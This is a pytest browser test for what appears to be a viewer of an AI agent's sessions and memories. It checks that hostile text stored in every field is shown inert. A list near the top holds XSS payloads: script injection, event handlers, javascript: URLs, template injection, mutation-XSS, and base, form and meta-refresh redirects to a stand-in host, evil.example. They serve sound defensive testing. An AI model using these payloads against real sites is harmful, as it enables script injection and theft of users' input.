"""Text that wants to be more than text, in every field that the page draws, in a real Chromium."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from daemons import Place, tool_call
from page_browser import VIEWS, chromium, require_chromium, visiting
from web_page import Page, serving

pytestmark = pytest.mark.slow

HOSTILE = (
    "<script>window.ran = 1</script>",
    "</script><script>window.ran = 2</script>",
    '<img src=x onerror="window.ran = 3">',
    "<svg onload=window.ran=4><a xlink:href='javascript:window.ran=5'>x</a></svg>",
    '"><iframe srcdoc="<script>parent.ran = 6</script>"></iframe>',
    "'-window.ran=7-'",
    "javascript:window.ran=8",
    "<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/><form action=//evil.example/><input name=code></form>",
    "<marquee><b id=app>bold</b></marquee>",
    "${window.ran=9}{{constructor.constructor('window.ran=10')()}}",
    "<!--island--><meta http-equiv=refresh content='0;url=//evil.example/'>",
    '{"type":"img","props":{"src":"x","onerror":"window.ran=11"},"constructor":null}',
    "‮]gnissim[ <xss onpointerenter=window.ran=12 style=position:fixed;inset:0>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.ran=13&gt;'>",
)
ELEMENT = {"type": "img", "props": {"src": "x", "onerror": "window.ran=14"}, "key": None, "ref": None, "__v": 1}
"""What a description of an element looks like to whoever draws without care."""
FOREIGN = (
    "img, iframe, script:not([src^='/page/']), style, base, form[action*=evil], marquee, math, xss, meta[http-equiv]"
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def served() -> Iterator[Page]:
    require_chromium()
    place = Place()
    try:
        place.start()
        for number, text in enumerate(HOSTILE):
            capture(place, number, text)
        place.settle()
        with serving(place) as page:
            yield page
    finally:
        place.end()


def capture(place: Place, number: int, text: str) -> None:
    """Have a text kept in every field that can hold it."""
    session = f"hostile-{number}-{text}"[:100]
    place.hook(tool_call(number, hook_event_name="UserPromptSubmit", session_id=session, prompt=text))
    call = tool_call(number, session_id=session, tool_name=text[:60], cwd=f"/src/{text}")
    place.hook(
        call | {"tool_input": {"command": text, "file_path": text, "element": ELEMENT}, "tool_response": ELEMENT}
    )
    failed = {"hook_event_name": "PostToolUseFailure", "error": text, "tool_use_id": f"toolu_failed_{number}"}
    place.hook(tool_call(number, session_id=session) | failed)
    place.hook(tool_call(number, session_id=session, hook_event_name="Stop", last_assistant_message=text))
    place.ask("remember", text=text, tags=[text[:40]], label=text[:40], typed=True)


def assert_harmless(visit: Any, where: object) -> None:
    assert visit.tab.evaluate("window.ran") is None, where
    assert visit.tab.locator(FOREIGN).count() == 0, where
    assert visit.tab.locator("#app").count() == 1, where
    handlers = "[...document.querySelectorAll('*')].some((e) => [...e.attributes].some((a) => a.name.startsWith('on')))"
    assert not visit.tab.evaluate(handlers), where
    links = visit.tab.evaluate("[...document.querySelectorAll('a')].map((a) => a.getAttribute('href'))")
    assert [each for each in links if not each.startswith("#")] == [], where


def test_hostile_text_in_every_field_makes_no_element_and_runs_nothing(browser: Any, served: Page) -> None:
    with visiting(browser, served) as visit:
        for view in VIEWS:
            visit.go(view)
            assert_harmless(visit, view)
        for text in ("window.ran", "evil.example", "constructor"):
            visit.go("search", f"q={text}")
            assert_harmless(visit, text)
        visit.go("memories", "which=superseded")
        assert HOSTILE[0] in visit.text()


def test_hostile_text_is_shown_as_it_is_where_one_looks_at_it_closely(browser: Any, served: Page) -> None:
    sessions = served.get("/sessions?limit=50")["sessions"]
    with visiting(browser, served) as visit:
        for session in sessions:
            visit.tab.evaluate(
                "([key, id]) => { location.hash = `#/${key}/sessions?` + new URLSearchParams({ id }); }",
                [served.key, session["sessionId"]],
            )
            visit.settle("sessions")
            assert_harmless(visit, session)
        for event in served.get("/timeline?before=100")["events"]:
            visit.go("why", f"id=e{event['eventId']}")
            assert_harmless(visit, event)
        for memory in served.get("/memories")["memories"]:
            visit.go("why", f"id=m{memory['id']}")
            assert_harmless(visit, memory)
        for entity in served.get("/entities?limit=20")["entities"]:
            visit.go("graph", f"name={entity['id']}")
            assert_harmless(visit, entity)


@pytest.mark.parametrize("text", [HOSTILE[2], HOSTILE[12]])
def test_hostile_text_in_a_dialog_and_in_an_address_is_text(browser: Any, served: Page, text: str) -> None:
    with visiting(browser, served) as visit:
        visit.tab.evaluate(
            "([key, q]) => { location.hash = `#/${key}/search?` + new URLSearchParams({ q }); }", [served.key, text]
        )
        visit.settle("search")
        visit.tab.wait_for_selector(".hit")
        visit.tab.click("text=Forget… >> nth=0")
        visit.tab.wait_for_selector("#forget-word")
        assert_harmless(visit, text)
        visit.expected = "409"  # the browser notes each such answer
